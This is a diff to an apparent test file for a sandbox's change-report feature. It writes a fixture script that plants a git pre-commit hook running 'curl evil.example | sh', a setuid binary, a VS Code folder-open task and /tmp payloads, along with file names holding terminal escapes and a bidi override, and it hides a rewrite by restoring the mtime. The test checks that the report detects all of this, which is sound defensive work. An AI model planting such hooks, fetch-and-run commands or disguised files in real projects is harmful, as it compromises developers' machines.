@@ -30,6 +30,29 @@ const ask = (target) => new Promise((done) => {
 })();
 `;
 
+// The repo's "tests": what a hostile test suite does to the box's files. A file that keeps its
+// size and mtime after a rewrite (only its ctime says so), a setuid copy of a binary, a git hook,
+// a VS Code task, /tmp drops, and names carrying terminal escapes and a bidi override.
+const CHANGES = `
+const fs = require('fs');
+const keep = fs.statSync('keep.txt');
+fs.writeFileSync('keep.txt', 'TRACKED\\n');
+fs.utimesSync('keep.txt', keep.atime, keep.mtime);
+fs.rmSync('gone.txt');
+fs.copyFileSync('/bin/true', 'helper-bin');
+fs.chmodSync('helper-bin', 0o4755);
+fs.mkdirSync('.git/hooks', { recursive: true });
+fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\ncurl evil.example | sh\\n', { mode: 0o755 });
+fs.mkdirSync('.vscode', { recursive: true });
+fs.writeFileSync('.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}');
+fs.writeFileSync('/tmp/dropped-${marker}', 'x');
+fs.copyFileSync('/bin/true', '/tmp/payload-${marker}');
+fs.chmodSync('/tmp/payload-${marker}', 0o755);
+fs.writeFileSync('esc-\\u001b]52;c;aGk=\\u0007\\u001b[2J-\\u202etxt.exe', '');
+fs.mkdirSync('cache-${marker}/deep', { recursive: true });
+for (let i = 0; i < 50; i += 1) fs.writeFileSync('cache-${marker}/deep/' + i, 'c');
+`;
+
 let work: string;
 let id: string;
 
@@ -42,10 +65,20 @@ beforeAll(async () => {
     join(repo, 'package.json'),
     JSON.stringify({ name: 'report', version: '1.0.0', private: true, packageManager: 'pnpm@9.15.9' }),
   );
+  await writeFile(join(repo, 'keep.txt'), 'tracked\n');
+  await writeFile(join(repo, 'gone.txt'), 'tracked\n');
+  await writeFile(join(repo, 'changes.cjs'), CHANGES);
   await writeFile(
     join(repo, '.pnpmfile.cjs'),
     `require('node:child_process').execFileSync(process.execPath, ['-e', ${JSON.stringify(ASK)}], { stdio: 'inherit' });\nmodule.exports = {};\n`,
   );
+  // A git repository: its .git/hooks is one of the things the tests rewrite.
+  const { execa } = await import('execa');
+  const git = (...args: string[]) =>
+    execa('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', ...args], { cwd: repo });
+  await git('init', '-q');
+  await git('add', '.');
+  await git('commit', '-qm', 'fixture');
   id = uniqueName('report');
   const created = await cli(['create', repo, '--json', '--name', id, '--network', 'clone-then-cut']);
   expect(created.exitCode, created.stderr).toBe(0);
@@ -171,6 +204,61 @@ describe('ca-sandbox report', () => {
     expect(page.stdout).toMatch(/exec\s+4\s+\S+\s+7 B\s+sh -c printf 12345/);
     for (const line of page.stdout.split('\n'))
       expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
+  });
+
+  it('what the tests changed: added, rewritten (ctime), deleted, setuid, new executables, a git hook, /tmp; no escape printed', async () => {
+    const ran = await cli(['exec', id, '--', 'node', 'changes.cjs']);
+    expect(ran.exitCode, ran.stderr).toBe(0);
+    const result = await cli(['report', id, '--json']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    const { changes } = SandboxReportSchema.parse(JSON.parse(result.stdout));
+    expect(changes).toMatchObject({ state: 'computed', complete: true, problems: [] });
+    const paths = (files: { path: string }[]) => files.map((file) => file.path);
+    expect(changes.modified).toContainEqual(
+      expect.objectContaining({ path: '/work/repo/keep.txt', changed: ['content'] }),
+    );
+    expect(paths(changes.deleted)).toEqual(['/work/repo/gone.txt']);
+    expect(paths(changes.added)).toEqual(
+      expect.arrayContaining([
+        '/work/repo/helper-bin',
+        '/work/repo/.git/hooks/pre-commit',
+        '/work/repo/.vscode/tasks.json',
+        '/work/repo/esc-\u001b]52;c;aGk=\u0007\u001b[2J-\u202etxt.exe',
+        `/work/repo/cache-${marker}`,
+      ]),
+    );
+    // Nothing of the clone's own reads as changed (the listing was taken after the checkout).
+    expect(paths(changes.modified)).toEqual(['/work/repo/keep.txt']);
+    expect(changes.added.find((file) => file.path.endsWith('/pre-commit'))?.runs).toMatch(/git hook/);
+    expect(changes.added.find((file) => file.path.endsWith('/tasks.json'))?.runs).toMatch(/VS Code/);
+    expect(changes.setuid).toEqual([
+      expect.objectContaining({ path: '/work/repo/helper-bin', mode: '4755', type: 'file' }),
+    ]);
+    expect(paths(changes.newExecutables)).toEqual(
+      expect.arrayContaining([
+        '/work/repo/helper-bin',
+        '/work/repo/.git/hooks/pre-commit',
+        `/tmp/payload-${marker}`,
+      ]),
+    );
+    expect(paths(changes.outsideRepo)).toEqual(
+      expect.arrayContaining([`/tmp/dropped-${marker}`, `/tmp/payload-${marker}`]),
+    );
+
+    const page = await cli(['report', id]);
+    expect(page.exitCode).toBe(0);
+    expect(page.stdout).toMatch(/files {6}\d+ added, 1 modified, 1 deleted in \/work\/repo since the clone/);
+    expect(page.stdout).toMatch(/SETUID\s+-4755\s+\d+\s+\/work\/repo\/helper-bin\s+added/);
+    expect(page.stdout).toMatch(
+      /RUNS\s+-755\s+\d+\s+\/work\/repo\/\.git\/hooks\/pre-commit\s+added; a git hook/,
+    );
+    // A new folder is one row with its count, not 51.
+    expect(page.stdout).toMatch(
+      new RegExp(`added\\s+d755\\s+\\d+\\s+/work/repo/cache-${marker}\\s+51 entries inside`),
+    );
+    for (const line of page.stdout.split('\n'))
+      expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
+    expect(page.stdout).not.toContain('\u202e');
   });
 
   it('a bad id is a usage error (exit 2), no stack', async () => {
